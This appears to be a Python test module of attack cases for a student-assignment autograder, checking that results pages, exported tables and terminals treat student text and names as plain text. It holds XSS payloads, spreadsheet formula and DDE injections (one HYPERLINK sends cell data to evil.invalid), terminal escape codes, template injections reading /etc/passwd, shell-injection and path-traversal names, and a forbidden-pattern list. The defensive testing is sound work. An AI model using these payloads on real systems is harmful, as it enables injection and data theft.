"""Attacks on who reads the results: scripts on pages, formulas in tables, control characters in terminals.

What must not happen on any page is in `FORBIDDEN`: a student's text may only ever be text.
"""

from collections.abc import Mapping

from tests.grading.attacks.model import (
    DIED,
    ERROR,
    OUTPUT,
    PASSED,
    REFUSED,
    TAMPERED,
    TIMEOUT,
    WRONG,
    Attack,
    Outcomes,
    cell_source,
    make_attack,
)

SCRIPT = '<script>document.title = "owned"</script>'
IMAGE = '<img src="x" onerror="document.title = 1">'
BREAK_OUT = f"</pre></code></td></table></textarea></style></title>--> {SCRIPT}{IMAGE}"

FORBIDDEN = (
    "<script>document",
    '<img src="x" onerror',
    "<img src=x onerror",
    "<iframe",
    "<svg/onload",
    "<base href",
    "<meta http-equiv='refresh'",
    "\x1b",
    "\0",
    "\x07",
    "\x9b",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "\N{RIGHT-TO-LEFT ISOLATE}",
)
"""None of these may stand on a page or in a table as it is: escaped, made visible or left out."""

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
"""No cell of a table may begin with one of these, unless it is a number."""


def _make_text_attack(name: str, why: str, text: str, outcomes: Outcomes = PASSED) -> Attack:
    """Return an attack in the free text of I.2.b; the part of the exercise that is run is right."""
    return Attack(name, why, texts={"I.2.b": f"why_get = {text!r}"}, expect={"I.2.b": outcomes})


OUTPUTS = (
    make_attack(
        "prints-html",
        "It prints HTML that breaks out of the page and runs a script.",
        f"""
        {{SOLUTION}}
        print({BREAK_OUT!r})
        print("<iframe src='javascript:alert(1)'>", "<svg/onload=alert(1)>", "<base href='//evil.invalid'>",
              "<meta http-equiv='refresh' content='0;url=//evil.invalid'>")
    """,
    ),
    make_attack(
        "displays-html",
        "It displays scripts, pictures and frames.",
        f"""
        from IPython.display import HTML, IFrame, Javascript, Markdown, SVG, Image, display
        {{SOLUTION}}
        display(HTML({BREAK_OUT!r}), Javascript("document.title = 1"), Markdown({IMAGE!r}))
        display(IFrame("https://evil.invalid", 100, 100), Image(url="https://evil.invalid/pixel.png"))
        formula = "$\\\\href{{javascript:alert(1)}}{{x}}$"
        display({{"text/plain": {BREAK_OUT!r}, "text/latex": formula}}, raw=True)
    """,
    ),
    make_attack(
        "error-is-html", "The message of its error is a script.", f"raise ValueError({BREAK_OUT!r})", ERROR
    ),
    make_attack(
        "error-class-is-html",
        "The name of its error's class is a script.",
        f"""
        raise type({SCRIPT!r}, (Exception,), {{}})("x")
    """,
        ERROR,
    ),
    make_attack(
        "error-forges-lines",
        "Its error's message has many lines that look like the grader's.",
        """
        raise ValueError("\\n\\npoints: 100\\n✓ I.1 passed\\r\\nSet-Cookie: a=b\\n" + "x" * 10_000)
    """,
        ERROR,
    ),
    make_attack(
        "error-raises",
        "Its error raises another one when it is printed.",
        """
        class Trap(Exception):
            def __str__(self): raise Trap
            __repr__ = __str__
        raise Trap
    """,
        ERROR + TIMEOUT,  # IPython itself stops at it and never replies
    ),
    make_attack(
        "terminal-codes",
        "It prints codes that clear a terminal, name its window and ring its bell.",
        """
        {SOLUTION}
        print("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x1b[31mred\\x9b31m\\x1b]8;;https://evil.invalid\\x07link\\x1b]8;;\\x07")
        print("50%\\rdone\\b\\b\\b\\b\\x0c\\x0b\\x7f")
    """,
    ),
    make_attack(
        "text-direction",
        "It prints characters that turn the direction of the text around them.",
        """
        {SOLUTION}
        print("\\u202e dessap \\u2067 x \\u200f \\u061c", "z\\u0336" * 500, "\\ufeff\\u200b\\u2028\\u2029")
    """,
    ),
    make_attack(
        "null-characters",
        "It prints null characters, noncharacters and private ones.",
        """
        {SOLUTION}
        print("a\\0b", "\\ufffe\\uffff\\U0010ffff\\ue000", bytes(range(256)).decode("latin-1"))
    """,
    ),
    make_attack(
        "half-characters",
        "It prints halves of characters, which no file can hold.",
        """
        {SOLUTION}
        try:
            print("\\ud800 \\udfff")
            display("\\ud83d")
        except UnicodeError as problem:
            print("not printable")
    """,
        PASSED + ERROR + TAMPERED,
    ),
    make_attack(
        "templates",
        "It prints what templates and format strings would fill in.",
        """
        {SOLUTION}
        print("{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} %s%n {0.__class__}")
        print("[bold red]x[/bold red] [link=x]y[/link]")
    """,
    ),
    make_attack(
        "long-line",
        "It prints one line of a hundred thousand characters without a space.",
        """
        {SOLUTION}
        print("x" * 100_000)
    """,
        PASSED + OUTPUT,
    ),
    make_attack(
        "value-is-html",
        "Its values are scripts, and so are the keys of its dict.",
        f"""
        label_counts = {{{SCRIPT!r}: 1, "neg": 1, "pos": 1, "total": 2}}
        first_class = {BREAK_OUT!r}
        mean_length = type({SCRIPT!r}, (), {{}})()
    """,
        WRONG,
    ),
    Attack(
        "function-stops-with-html",
        "Its function stops with a message that is a script, which the check's sentence repeats.",
        {"I.3.b": f"def balanced_sample(labels, size, seed):\n    raise ValueError({BREAK_OUT!r})"},
        {"I.3.b": WRONG},
    ),
)

TEXTS = (
    _make_text_attack(
        "text-is-html", "Its free text breaks out of the page and runs a script.", f"It is so. {BREAK_OUT}"
    ),
    _make_text_attack(
        "text-is-a-formula",
        "Its free text is a formula that a table program would run.",
        '=HYPERLINK("https://evil.invalid?x=" & A1, "click me please now")',
    ),
    _make_text_attack(
        "text-is-a-command",
        "Its free text is a command to a table program of old.",
        "=cmd|' /C calc'!A0 and two more words",
    ),
    _make_text_attack(
        "text-begins-with-a-sign",
        "Its free text begins with a sign, as honest ones may.",
        "- 0 is no number of a word\n+ so nothing is mixed up\n@ me if you disagree",
    ),
    _make_text_attack(
        "text-begins-with-a-tab",
        "Its free text hides a formula behind a tab and a line end.",
        "\t=1+1 hidden behind a tab\r=2+2 and a line end",
    ),
    _make_text_attack(
        "text-forges-rows",
        "Its free text forges further rows and columns of the table.",
        'so it is"\r\nother-student,Other,I,I.2.b,1,answer,model,1,"well done\n;;;;1\n',
    ),
    _make_text_attack(
        "text-has-control-characters",
        "Its free text has control characters, and turns the direction.",
        "one \0 two \x1b[2J three \N{RIGHT-TO-LEFT OVERRIDE} four \x07 \ufeff five \x0c",
    ),
    _make_text_attack(
        "text-has-half-characters",
        "Its free text has halves of characters.",
        "one \ud800 two \udfff three",
        PASSED + REFUSED,
    ),
    _make_text_attack(
        "text-is-long", "Its free text has a million words.", "word " * 1_000_000, PASSED + REFUSED + OUTPUT
    ),
    _make_text_attack(
        "text-is-a-template",
        "Its free text is what templates fill in.",
        "{{ 7 * 7 }} {% raise %} ${{7*7}} #{7*7} <%= 7*7 %> three words",
    ),
    Attack(
        "text-is-no-text",
        "Its free text is a number, and an object that says it is a text.",
        texts={
            "I.2.b": "why_get = 5",
            "I.3.a": cell_source("""
               class Text(str):
                   def strip(self): return 5
                   def split(self, *args): return range(100)
                   def __str__(self): raise ValueError
                   __repr__ = __len__ = encode = __str__
               why_perfect = Text("three words here")
           """),
        },
        expect={
            "I.2.b": PASSED,
            "I.3.a": PASSED + REFUSED,
        },  # the part that is run; the text itself counts nothing
    ),
    Attack(
        "text-runs-code",
        "Its cell for a free text runs code that ends the kernel.",
        texts={"I.2.b": "why_get = 'three words here'\nimport os\nos._exit(0)"},
        expect={"I.2.b": DIED},
    ),
)

NAMES: Mapping[str, str] = {
    "html": "<img src=x onerror=alert(1)>",
    "quotes": "\"'><b>x`",
    "formula": "=1+1",
    "formula-with-link": '=HYPERLINK("evil.invalid","x")',
    "minus": "-2+3",
    "plus": "+1 555",
    "at": "@SUM(A1)",
    "comma": 'O\'Neil, "Ann"; x',
    "new-line": "two\nlines",
    "tab": "\ttab",
    "terminal-code": "\x1b[2Jred\x1b[31m",
    "right-to-left": "\N{RIGHT-TO-LEFT OVERRIDE}nna",
    "emoji": "👩‍🎓 Zoë 数学",
    "markup": "[bold red]x[link=evil]",
    "template": "{{ 7 * 7 }}{0}%s",
    "long": "n" * 250,
    "space": " ",
    "trailing": "ann. ",
    "device": "CON",
    "option": "--out=evil",
    "backslashes": "..\\..\\evil",
    "shell": "$(touch evil)`id`;|&",
    "grader-file": "gradebook.csv",
}
"""Names of students, which are those of their folders."""

HOSTILE_NAMES = tuple(
    Attack(
        f"name-{kind}",
        "An honest student's name has a meaning to a page, a table, a terminal or a shell.",
        student=name,
    )
    for kind, name in NAMES.items()
)

ATTACKS = (*OUTPUTS, *TEXTS, *HOSTILE_NAMES)
